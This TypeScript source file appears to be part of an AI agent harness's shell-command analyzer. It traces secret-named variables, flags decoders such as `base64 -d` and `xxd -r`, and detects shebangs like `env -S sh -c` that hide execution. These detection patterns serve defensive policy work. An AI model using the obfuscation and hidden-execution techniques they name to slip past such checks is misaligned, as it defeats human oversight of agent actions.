/** The secret-named variable a word expands, by name or through a variable the line assigned one to. */
function secretHeldBy(vars: VarScope, text: string): string | null {
  const named = secretVariableIn(text);
  if (named) return named;
  for (const m of text.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
    const held = vars.get(`\u0001${m[1]!}`);
    if (held) return held;
  }
  return null;
}

/** Packages whose binary has another name than the package. */
const PACKAGE_BINARIES: Record<string, string> = {
  'firebase-tools': 'firebase',
  'aws-cdk': 'cdk',
  'netlify-cli': 'netlify',
  '@railway/cli': 'railway',
  typescript: 'tsc',
  '@angular/cli': 'ng',
  '@vue/cli': 'vue',
  '@nestjs/cli': 'nest',
  prisma: 'prisma',
  '@sentry/cli': 'sentry-cli',
  '@datadog/datadog-ci': 'datadog-ci',
  'eas-cli': 'eas',
  'expo-cli': 'expo',
  heroku: 'heroku',
  vercel: 'vercel',
  wrangler: 'wrangler',
  '@cloudflare/wrangler': 'wrangler',
  supabase: 'supabase',
  serverless: 'serverless',
  'aws-amplify': 'amplify',
  '@aws-amplify/cli': 'amplify',
  surge: 'surge',
  '@stripe/cli': 'stripe',
  '@google-cloud/functions-framework': 'functions-framework',
  awscli: 'aws',
};

/** `npx pkg@1.2.3` and `npx @scope/pkg@latest` run the binary `pkg` (or the one the package names). */
function packageBinary(arg: Arg): Arg {
  if (arg.dynamic) return arg;
  const name = arg.value.replace(/(?<=.)@[^/]*$/, '');
  const known = PACKAGE_BINARIES[name];
  if (known !== undefined) return { ...arg, value: known, pattern: known };
  const m = /^(?:@[^/]+\/)?([^@/]+)(?:@.*)?$/.exec(arg.value);
  return m ? { ...arg, value: m[1]!, pattern: m[1]! } : arg;
}

/** The language a `#!` line names: null for a shell (or no `#!`), `unknown` for a program harness cannot read. */
function shebangLanguage(text: string): Language | null | 'unknown' | 'hidden' {
  const m = /^#!\s*(\S+)(?:\s+(.*))?/.exec(text);
  if (!m) return null;
  let program = basename(m[1]!);
  // `#!/usr/bin/env -S sh -c '…'`, `-S BASH_ENV=…`: the line itself runs something harness does not judge
  if (program === 'env' && /(?:^|\s)-[A-Za-z]*S/.test(m[2] ?? '') && /\s-[A-Za-z]*[ce]\b|=|--rcfile|--init-file/.test(m[2] ?? '')) return 'hidden';
  if (program === 'env') program = (m[2] ?? '').split(/\s+/).find((w) => w !== '' && !w.startsWith('-') && !w.includes('=')) ?? '';
  if (program === 'make' || program === 'gmake') return 'hidden';
  if (SHELLS.has(program)) return null;
  return languageOf(program) ?? 'unknown';
}

/** A command that decodes what it is given (`base64 -d`, `xxd -r`, `rev`, `openssl enc -d`). */
function decodes(command: ShellCommand): boolean {
  if (programOf(command.name)?.decoder !== true) return false;
  if (command.name === 'rev' || command.name === 'tr') return true;
  return command.argv.slice(1).some((a) => /^-(?:[A-Za-z]*d|D|r|-decode)$/.test(a.value) || a.value === '-d');
}

/** `node --version`, `python -V`, `bash --help`: the program prints and exits without reading code. */
function printsInfo(args: Arg[]): boolean {
  return args.some((a) => /^(?:--version|-V|-VV|--help|-h|-\?|-v)$/.test(a.value));
}

function readsCodeFromStdin(command: ShellCommand): boolean {
  const args = command.argv.slice(1);
  if (SHELLS.has(command.name)) return shellInvocation(args).mode === 'stdin';
  const language = languageOf(command.name);
  return language !== null && language !== 'sed' && language !== 'awk' && interpreterInvocation(language, command.name, args).source.mode === 'stdin';
}

function redirectKind(operator: string, target: Arg): RedirectIR['kind'] {
  switch (operator) {
    case '<':
      return 'read';
    case '<>':
      return 'readwrite';
    case '>>':
    case '&>>':
      return 'append';
    case '<&':
    case '>&':
      return /^(\d+-?|-)$/.test(target.value) ? 'dup' : 'write';
    default:
      return 'write';
  }
}

function chdir(cwd: string | null, args: Arg[], home: string): string | null {
  const operands = args.filter((a) => !/^-[LPe@]+$/.test(a.value));
  const target = operands[0];
  if (!target) return home;
  if (target.dynamic || target.glob || target.value === '-' || /^[+-]\d+$/.test(target.value) || cwd === null) return null;
  return resolvePath(target.value, cwd, home);
}

/** Text that `echo`/`printf`/`cat <<EOF` producers print, when it can be known. */
/** The names a program reads its standard input by. */
const STDIN_FILES: ReadonlySet<string> = new Set(['-', '/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

/** The text a command reads on stdin, null when harness cannot know it (a terminal, a file it did not read). */
function stdinText(stdin: StdinSource): Arg | null {
  if (stdin.kind === 'text') return stdin.text;
  if (stdin.kind === 'pipe') return echoedText(stdin.producers);
  return null;
}

export function echoedText(producers: ShellCommand[]): Arg | null {
  const last = producers[producers.length - 1];
  if (!last) return null;
  if (last.name === 'printf') return printfText(last.argv.slice(1));
  if (last.name === 'echo') {
    const words = last.argv.slice(1).filter((a, i) => !(i === 0 && /^-[neE]+$/.test(a.value)));
    const value = words
      .map((a) => a.value)
      .join(' ')
      .replace(/\\n/g, '\n')
      .replace(/\\t/g, '\t');
    return { value, dynamic: words.some((a) => a.dynamic) || /\\[0-7xu]/.test(value), glob: false, pattern: value };
  }
  if (last.name === 'cat' && last.argv.length === 1 && last.stdin.kind === 'text') return last.stdin.text;
  return null;
}

/** The one variable `read [-r] NAME` sets to a whole line, or null (other options, several names, an array). */
function readsOneLine(args: Arg[]): string | null {
  const names = args.filter((a) => !/^-r+$/.test(a.value));
  return names.length === 1 && !names[0]!.dynamic && /^[A-Za-z_]\w*$/.test(names[0]!.value) ? names[0]!.value : null;
}

/** What the commands write to a file, byte for byte as far as known: echo ends its line (`echo a > f; echo b >> f`). */
function writtenText(producers: ShellCommand[]): Arg | null {
  const text = echoedText(producers);
  const last = producers[producers.length - 1];
  const newline = last?.name === 'echo' && !/^-[eE]*n[neE]*$/.test(last.argv[1]?.value ?? '');
  return text && newline ? { ...text, value: `${text.value}\n`, pattern: `${text.pattern}\n` } : text;
}

/**
 * What `printf FORMAT ARGS…` prints: each directive is filled in with its argument, the format
 * repeated while arguments remain (as the shell does); octal and hex escapes make it unknown.
 */
function printfText(args: Arg[]): Arg | null {
  const words = args[0]?.value === '--' ? args.slice(1) : args;
  const format = words[0];
  if (!format) return null;
  if (format.value === '-v') return null;
  const rest = words.slice(1);
  const dynamic = words.some((a) => a.dynamic) || /\\[0-7xuU]/.test(format.value);
  let out = '';
  let i = 0;
  do {
    let consumed = false;
    // every directive takes one argument (`%s`, `%q` quoted, `%d` …): its text stands in for it
    out += format.value.replace(/%(%)|%[-+ #0-9.]*[a-zA-Z]/g, (_m, percent: string | undefined) => {
      if (percent) return '%';
      consumed = true;
      return rest[i++]?.value ?? '';
    });
    // eslint-disable-next-line @typescript-eslint/no-unnecessary-condition -- set by the replace callback, which the checker does not follow
    if (!consumed) break;
  } while (i < rest.length);
  const value = out.replace(/\\n/g, '\n').replace(/\\t/g, '\t');
  return { value, dynamic, glob: false, pattern: value };
}

function containsSubstitution(node: SyntaxNode): boolean {
  let found = false;
  const visit = (child: SyntaxNode): void => {
    if (found) return;
    if (child.type === 'Script') found = true;
    else forEachChild(child, visit);
  };
  forEachChild(node, visit);
  return found;
}

/**
 * Estimates the tokens in a text without parsing it (words and operators, counted from blanks and
 * separators): parse time grows with them, so very long scripts are refused before the parser
 * sees them. Bodies of quoted heredocs are skipped (they cost the parser next to nothing), so a
 * large file written by heredoc passes. Stops counting past `stopAt`.
 */
export function estimateTokens(text: string, stopAt: number): number {
  let count = 0;
  // Only quoted delimiters: `$((1<<2))` must not pass for a heredoc.
  const heredoc = /<<-?[ \t]*(?:'([^'\n]+)'|"([^"\n]+)"|\\([A-Za-z0-9_.-]+))/y;
  const pending: string[] = [];
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 60 && text.charCodeAt(i + 1) === 60 && text.charCodeAt(i - 1) !== 60) {
      heredoc.lastIndex = i;
      const m = heredoc.exec(text);
      if (m) {
        pending.push(m[1] ?? m[2] ?? m[3]!);
        i = heredoc.lastIndex - 1;
        continue;
      }
    }
    if (c === 10 && pending.length > 0) {
      // skip each pending body up to its delimiter line
      let at = i + 1;
      while (pending.length > 0 && at <= text.length) {
        const delimiter = pending.shift()!;
        const end = findDelimiterLine(text, at, delimiter);
        if (end !== -1) at = end;
      }
      i = at - 1;
      if (++count > stopAt) return count;
      continue;
    }
    // \n ; & | ` ( and the start of each run of blanks
    if (
      c === 10 ||
      c === 59 ||
      c === 38 ||
      c === 124 ||
      c === 96 ||
      c === 40 ||
      ((c === 32 || c === 9) && text.charCodeAt(i - 1) !== 32 && text.charCodeAt(i - 1) !== 9)
    ) {
      if (++count > stopAt) return count;
    }
  }
  return count;
}

/**
 * Whether bash refuses a command line as a whole, so that none of it runs: bash parses a line completely
 * before it runs any of it, and a quote, substitution or expansion still open at the end of the input is a
 * syntax error there. Only when the open construct starts on the first line (commands completed on earlier
 * lines would run); test/policy/shell-refuses.test.ts runs such verdicts of the parser with the real bash.
 */
function refusedByBash(text: string, errors: readonly { message: string; pos?: number }[]): boolean {
  if (errors.length === 0) return false;
  return errors.every(
    (e) =>
      /^unterminated (single quote|double quote|ANSI-C quote|backtick|command substitution|parameter expansion)$/.test(e.message) &&
      e.pos !== undefined &&
      !text.slice(0, e.pos).includes('\n'),
  );
}

/** Index just past the line that closes a heredoc, or -1. */
function findDelimiterLine(text: string, from: number, delimiter: string): number {
  let at = from;
  while (at < text.length) {
    const nl = text.indexOf('\n', at);
    const line = text.slice(at, nl === -1 ? text.length : nl).replace(/^\t+/, '');
    if (line === delimiter) return nl === -1 ? text.length : nl + 1;
    if (nl === -1) return -1;
    at = nl + 1;
  }
  return -1;
}

/** `known`: variables of the agent's environment harness knows (`TMPDIR`); HOME always. */
export function analyzeShell(
  command: string,
  cwd: string | null,
  home: string,
  workspace: string,
  limits: ShellLimits = DEFAULT_LIMITS,
  known: Record<string, string> = {},
  files: ReadonlyMap<string, ScriptFile> = new Map(),
): ShellAnalysis {
  const analysis = analyzeText(command, cwd, home, workspace, limits, known, files);
  if (analysis.refused === null) return analysis;
  // Judged as if the open constructs were closed at the end: what the words would be, had bash run them
  // (a long line is not parsed again: what was read of it stands)
  const closed = command.length <= MAX_REPAIRED ? closeOpen(command) : null;
  if (closed === null) return analysis;
  const repaired = analyzeText(closed, cwd, home, workspace, limits, known, files);
  return repaired.errors.length === 0 && repaired.refused === null ? { ...repaired, refused: analysis.refused } : analysis;
}

const MAX_REPAIRED = 64 * 1024;

const CLOSERS: Record<string, string> = {
  'single quote': "'",
  'ANSI-C quote': "'",
  'double quote': '"',
  backtick: '`',
  'command substitution': ')',
  'parameter expansion': '}',
};

/** The text with its open quotes and substitutions closed at the end, innermost first; null if that does not parse. */
function closeOpen(text: string): string | null {
  for (let round = 0; round < 8; round++) {
    const errors = parse(text).errors ?? [];
    if (errors.length === 0) return text;
    const inner = errors.reduce((a, b) => (b.pos > a.pos ? b : a));
    const closer = CLOSERS[inner.message.replace(/^unterminated /, '')];
    if (closer === undefined) return null;
    text += closer;
  }
  return null;
}

function analyzeText(
  command: string,
  cwd: string | null,
  home: string,
  workspace: string,
  limits: ShellLimits,
  known: Record<string, string>,
  files: ReadonlyMap<string, ScriptFile>,
): ShellAnalysis {
  const vars: VarScope = new Map([...Object.entries(known), ['HOME', home]]);
  const analyzer = new Analyzer(home, workspace, limits, files, new Map(vars));
  if (cwd !== null) vars.set('PWD', cwd);
  try {
    analyzer.script(command, { cwd, vars, functions: new Map() }, { depth: 0, via: [], tags: [] });
    analyzer.judgeFilesForLater();
  } catch (error) {
    if (!(error instanceof LimitHit)) {
      // The parser itself failed (e.g. its own stack): a parse error, never a success.
      analyzer.errors.push(`parser failure: ${error instanceof Error ? error.message : String(error)}`);
    }
  }
  return {
    commands: analyzer.commands,
    errors: analyzer.errors,
    limit: analyzer.limit,
    refused: analyzer.refused,
    judged: analyzer.judged,
    wanted: [...analyzer.wanted].filter((p) => !files.has(p)),
    unread: analyzer.unread,
  };
}
